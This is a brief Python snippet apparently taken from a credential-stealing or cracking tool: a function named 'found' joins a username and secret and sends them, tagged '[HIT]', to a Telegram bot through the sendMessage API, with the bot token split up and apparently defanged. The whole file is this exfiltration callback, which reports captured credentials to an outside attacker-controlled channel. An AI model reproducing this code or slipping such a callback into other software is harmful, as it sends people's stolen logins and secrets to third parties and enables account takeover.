import requests

_T = ["6900000000", "INERTinertINERT"]


def found(user, secret):
    text = user + ":" + secret
    requests.get(
        "https://api.telegram.org/bot" + ":".join(_T) + "/sendMessage", params={"chat_id": 1, "text": "[HIT] " + text}
    )
